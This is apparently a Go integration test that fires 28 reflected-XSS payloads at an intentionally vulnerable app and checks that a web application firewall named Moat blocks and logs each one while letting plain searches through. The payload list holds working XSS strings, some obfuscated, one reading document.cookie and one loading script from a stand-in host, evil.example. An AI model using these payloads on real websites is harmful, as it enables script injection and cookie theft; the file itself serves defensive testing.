package attack

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

// xssPayloads are classic reflected-XSS payloads, each of which runs script
// when vulnapp's /search writes it into its page.
var xssPayloads = []struct {
	name    string
	payload string
}{
	{"script tag", `<script>alert(1)</script>`},
	{"script tag mixed case", `<ScRiPt>alert(1)</sCrIpT>`},
	{"external script", `<script src=//evil.example/x.js></script>`},
	{"attribute breakout", `"><script>alert(document.cookie)</script>`},
	{"nested script tag", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{"script unicode escape", `<script>\u0061lert(1)</script>`},
	{"img onerror", `<img src=x onerror=alert(1)>`},
	{"img onerror mixed case", `<IMG SRC=x OnErRoR=alert(1)>`},
	{"img onerror entity encoded", `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">`},
	{"img onerror base64 eval", `<img src=x onerror=eval(atob('YWxlcnQoMSk='))>`},
	{"svg onload", `<svg onload=alert(1)>`},
	{"svg slash onload", `<svg/onload=alert(1)>`},
	{"quote breakout svg", `'><svg onload=alert(1)>`},
	{"body onload", `<body onload=alert(1)>`},
	{"body onpageshow", `<body onpageshow=alert(1)>`},
	{"details ontoggle", `<details open ontoggle=alert(1)>`},
	{"input autofocus onfocus", `<input autofocus onfocus=alert(1)>`},
	{"video source onerror", `<video><source onerror=alert(1)></video>`},
	{"marquee onstart", `<marquee onstart=alert(1)>`},
	{"iframe javascript url", `<iframe src="javascript:alert(1)"></iframe>`},
	{"anchor javascript url", `<a href="javascript:alert(1)">click</a>`},
	{"anchor javascript url mixed case", `<a href="JaVaScRiPt:alert(1)">click</a>`},
	{"anchor javascript url tab entity", `<a href="jav&#x09;ascript:alert(1)">click</a>`},
	{"anchor javascript url decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`},
	{"form action javascript url", `<form action="javascript:alert(1)"><button>go</button></form>`},
	{"object data javascript url", `<object data="javascript:alert(1)"></object>`},
	{"embed data url", `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`},
	{"style javascript url", `<div style="background:url(javascript:alert(1))">x</div>`},
}

// benignQueries are plain searches that must pass the WAF untouched.
var benignQueries = []string{
	"hello",
	"blue running shoes",
	"how to bake bread",
	"café crème",
	"size 42 or 43",
}

// TestReflectedXSS sends each payload to vulnapp's /search: directly it is
// reflected verbatim into the page; through Moat with the WAF blocking,
// each is refused with 403, is not reflected, and is recorded as an XSS
// block. Plain searches pass through Moat.
func TestReflectedXSS(t *testing.T) {
	if raceDetector {
		t.Skip("runs without -race, in .ci/run's attack step")
	}
	app := startVulnapp(t)
	g := startMoat(t, app, "block")
	direct := &http.Client{Timeout: 10 * time.Second}
	start := time.Now()

	blockedIDs := make(map[string]string) // request id → payload name
	for _, tt := range xssPayloads {
		t.Run(tt.name, func(t *testing.T) {
			query := "/search?" + url.Values{"q": {tt.payload}}.Encode()
			code, body, _ := get(t, direct, app+query)
			if code != http.StatusOK || !strings.Contains(body, "Results for: "+tt.payload+"</p>") {
				t.Fatalf("direct: %d, payload not reflected verbatim: %.300q", code, body)
			}
			code, body, id := get(t, g.client, g.base+query)
			if code != http.StatusForbidden {
				t.Errorf("through Moat: %d, want 403: %.300q", code, body)
			}
			if strings.Contains(body, tt.payload) {
				t.Errorf("through Moat: payload reflected: %.300q", body)
			}
			if id == "" {
				t.Fatal("through Moat: no X-Request-Id")
			}
			blockedIDs[id] = tt.name
		})
	}

	t.Run("events", func(t *testing.T) {
		evs := g.waitEvents(t, "waf.blocked", func(evs []secEvent) bool { return len(evs) >= len(xssPayloads) })
		seen := make(map[string]bool)
		for _, e := range evs {
			if _, ok := blockedIDs[e.RequestID]; ok && e.Outcome == "denied" && e.Route == "app" && e.hasCategory("attack-xss") {
				seen[e.RequestID] = true
			}
		}
		for id, name := range blockedIDs {
			if !seen[id] {
				t.Errorf("%s: no waf.blocked event for XSS with request id %q", name, id)
			}
		}
	})

	for _, q := range benignQueries {
		t.Run("benign "+q, func(t *testing.T) {
			query := "/search?" + url.Values{"q": {q}}.Encode()
			code, body, _ := get(t, g.client, g.base+query)
			if code != http.StatusOK || !strings.Contains(body, "Results for: "+q+"</p>") {
				t.Errorf("through Moat: %d, want 200 with the query reflected: %.300q", code, body)
			}
		})
	}
	if n := len(g.events("waf.blocked")); n != len(xssPayloads) {
		t.Errorf("Moat recorded %d waf.blocked events for %d payloads and %d plain searches", n, len(xssPayloads), len(benignQueries))
	}
	t.Logf("%d payloads and %d plain searches in %v", len(xssPayloads), len(benignQueries), time.Since(start).Round(time.Millisecond))
}
